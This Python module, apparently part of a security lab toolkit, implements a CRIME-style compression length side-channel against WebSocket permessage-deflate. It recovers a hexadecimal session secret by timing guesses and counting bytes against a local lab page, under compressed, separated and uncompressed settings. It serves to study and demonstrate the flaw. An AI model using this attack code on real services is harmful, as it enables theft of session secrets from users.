"""An attack that reads a secret from the lengths of encrypted, compressed messages.

This is the idea of CRIME (J. Rizzo, T. Duong, 2012) applied to permessage-deflate (RFC 7692): text that
repeats earlier text compresses better. An attacker who can place text beside a secret in one message, and
sees the message's length, can guess the secret one character after the other.
"""

from __future__ import annotations

import asyncio
from typing import Final, Literal, NamedTuple
from urllib.parse import urlsplit, urlunsplit

import msgspec
from websockets.asyncio.client import ClientConnection, connect
from websockets.extensions.permessage_deflate import ClientPerMessageDeflateFactory

from rtlab.capture.tcp_tap import Tap
from rtlab.lab.lab import Lab

__all__ = ["ALPHABET", "Setting", "WhatWasRead", "read_by_length"]

#: The characters that a hexadecimal secret can contain.
ALPHABET: Final = "0123456789abcdef"

#: How the victim's page sends its data: secret and draft together in one compressed message, in one
#: message each, or together in an uncompressed message.
Setting = Literal["together", "apart", "uncompressed"]

#: Timeout of the whole attack in seconds.
PATIENCE: Final = 20.0


class WhatWasRead(NamedTuple):
    """What an eavesdropper concluded from the lengths.

    Parameters
    ----------
    text : str
        The attacker's guess of the secret.
    messages : int
        Number of guesses, each of which made the page send its data once.
    first : dict of str to int
        Guess at the first character → bytes on the wire.
    """

    text: str
    messages: int
    first: dict[str, int]

    def right(self, secret: str) -> int:
        """Return the number of correct characters before the first wrong one.

        Parameters
        ----------
        secret : str
            The true secret.

        Examples
        --------
        >>> WhatWasRead("abd0", 64, {}).right("abc0")
        2
        """
        agree = (a == b for a, b in zip(self.text, secret, strict=False))
        return next((n for n, same in enumerate(agree) if not same), min(len(self.text), len(secret)))


async def read_by_length(lab: Lab, secret: str, setting: Setting) -> WhatWasRead:
    """Let a page save drafts that the attacker chooses, and count the bytes that leave it.

    The attacker never sees the content, only the number of bytes (`Tap.flow`), which TLS does not hide.
    The attacker picks the guess with the shortest message, and the first of several equally short ones. If
    all lengths are equal, the attack stops, so that it never succeeds by chance.

    Parameters
    ----------
    lab : Lab
        A lab with ``compression=True``.
    secret : str
        A hexadecimal secret, which the page sends as ``session=…`` with each draft.
    setting : {"together", "apart", "uncompressed"}
        How the page sends its data; see `Setting`.

    Returns
    -------
    WhatWasRead

    Raises
    ------
    TimeoutError
        When the attack takes longer than `PATIENCE`.

    Examples
    --------
    >>> async def attack(lab: Lab) -> int:
    ...     return (await read_by_length(lab, "c0ffee42", "together")).right("c0ffee42")
    """
    known, sent, first = "", 0, dict[str, int]()
    deflate = [ClientPerMessageDeflateFactory(client_no_context_takeover=True)]
    extensions = None if setting == "uncompressed" else deflate
    async with asyncio.timeout(PATIENCE), Tap(lab.url, keep_bytes=0) as tap:
        url = urlunsplit(urlsplit(tap.url)._replace(scheme="ws", path="/ws"))
        async with connect(url, extensions=extensions, compression=None, proxy=None) as page:
            await page.recv()  # the welcome
            while len(known) < len(secret):
                lengths: dict[str, int] = {}
                for guess in ALPHABET:
                    before = tap.flow(up=True).bytes
                    await _save(page, secret, f"session={known}{guess}", together=setting != "apart")
                    lengths[guess] = tap.flow(up=True).bytes - before
                    sent += 1
                first = first or lengths
                if len(set(lengths.values())) == 1:
                    break
                known += min(ALPHABET, key=lengths.__getitem__)
    return WhatWasRead(known, sent, first)


async def _save(page: ClientConnection, secret: str, draft: str, *, together: bool) -> None:
    """Save a draft as the page does when its user types; return when the server has answered."""
    fields = [{"session": f"session={secret}", "draft": draft}]
    if not together:
        fields = [{"session": f"session={secret}"}, {"draft": draft}]
    for payload in fields:
        await page.send(msgspec.json.encode({"type": "echo", "payload": payload}).decode())
        await page.recv()
